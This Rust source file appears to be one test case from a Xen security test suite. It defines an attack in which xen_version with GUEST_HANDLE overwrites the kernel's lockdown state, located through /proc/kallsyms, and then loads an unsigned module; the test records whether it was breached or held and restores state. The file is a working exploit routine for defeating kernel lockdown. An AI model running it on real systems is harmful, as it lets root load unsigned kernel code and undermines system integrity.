//! Xen is told to write over the kernel's lockdown state; then an unsigned module loads.
//!
//! Assumes nothing about addresses: root reads where the state is in /proc/kallsyms, which lockdown leaves open.

use std::fs;

use anyhow::{Context as _, Result};

use super::{Attack, Level};
use crate::calls::version;
use crate::outcome::{Outcome, breached, held, not_applicable};
use crate::witness::{lockdown, symbol, version_works};
use crate::xen::Privcmd;

pub(super) const ATTACK: Attack = Attack {
    id: "version-unlocks-kernel",
    rule: "B3",
    level: Level::Integrity,
    summary: "xen_version(guest_handle) with the address of the kernel's lockdown state: Xen writes zeros there, \
              and the kernel loads an unsigned module",
    needs: "privcmd; a kernel that is locked down; a module file to take the signature from",
    observed: "/sys/kernel/security/lockdown says none, and a module without signature is in /proc/modules",
    healthy: true,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    let before = lockdown()?;
    if before == "none" {
        return not_applicable("the kernel is not locked down");
    }
    let module = super::unsigned_module::Unsigned::prepare()?;
    if module.load().is_ok() {
        return not_applicable("the kernel loads unsigned modules although it is locked down");
    }
    let privcmd = Privcmd::open()?;
    let address = symbol("kernel_locked_down")?;
    let handle = privcmd.own_handle()?;
    zero_handle(&privcmd, [0; 16])?;
    let answer = privcmd.version(version::GUEST_HANDLE, address);
    zero_handle(&privcmd, handle)?;

    let after = lockdown()?;
    let loaded = module.load();
    let in_list = module.is_loaded();
    module.unload();
    // The lock only ever rises, so what was lowered is raised again by the kernel's own interface.
    drop(fs::write("/sys/kernel/security/lockdown", &before));
    let restored = lockdown()?;

    let told = match &answer {
        Ok(value) => format!("Xen answered {value}"),
        Err(error) => format!("refused: {error}"),
    };
    let loaded = match (&loaded, in_list) {
        (Ok(()), true) => format!("the unsigned module {} loaded", module.name),
        (Ok(()), false) => "the unsigned module was taken but is not listed".to_owned(),
        (Err(error), _) => format!("the unsigned module is refused: {error}"),
    };
    let evidence = format!("{told}; lockdown {before} -> {after} (afterwards {restored}); {loaded}");
    if after == "none" && in_list { breached(evidence) } else { held(evidence) }
}

/// What Xen writes is domain 0's handle, which root may set.
fn zero_handle(privcmd: &Privcmd, handle: [u8; 16]) -> Result<()> {
    const SETDOMAINHANDLE: u32 = 17;
    if privcmd.own_handle()? == handle {
        return Ok(());
    }
    privcmd.domctl(SETDOMAINHANDLE, 0, &handle).context("domctl setdomainhandle")?;
    Ok(())
}
